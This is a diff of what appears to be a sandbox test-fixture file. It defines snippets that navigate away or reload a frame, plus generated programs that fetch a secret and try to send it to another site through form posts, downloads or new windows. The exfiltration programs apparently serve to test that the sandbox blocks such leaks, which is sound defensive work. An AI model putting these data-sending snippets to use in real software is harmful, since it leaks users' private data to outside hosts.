@@ -159,8 +159,16 @@ const tried = await Promise.all(Object.entries(ways).map(async ([name, reach]) =
 const reached = tried.flat();
 console.log("${REACHED}" + (reached.join(", ") || "nothing"));`;
 
+/** Goes to a page of the site. */
+export const LEAVING = `location.href = new URL("/robots.txt", document.baseURI).href; await new Promise(() => {});`;
+
+/** Stays in its document, though WebKit reports that the frame has loaded again. */
+export const JUMPING = `Object.assign(document.body.appendChild(document.createElement("a")), { href: "#there" }).click();
+await new Promise((resolve) => setTimeout(resolve, 3000));
+show("stayed");`;
+
 /** Ways to another page, each of which may end the program. */
-const LEAVING: Record<string, string> = {
+const WAYS_OUT: Record<string, string> = {
   form: 'add("form", { action: to("form"), method: "post" }).submit()',
   download: 'add("a", { href: to("download"), download: "file" }).click()',
   window: 'open(to("window"))',
@@ -170,7 +178,7 @@ const LEAVING: Record<string, string> = {
 
 /** Programs that try to send their `video` to another site. */
 export const sendingTo = (address: string): string[] =>
-  Object.values(LEAVING).map(
+  Object.values(WAYS_OUT).map(
     (leave) => `
 const secret = await (await fetch(video)).text();
 const to = (way: string) => "${address}/" + way + "?" + secret;
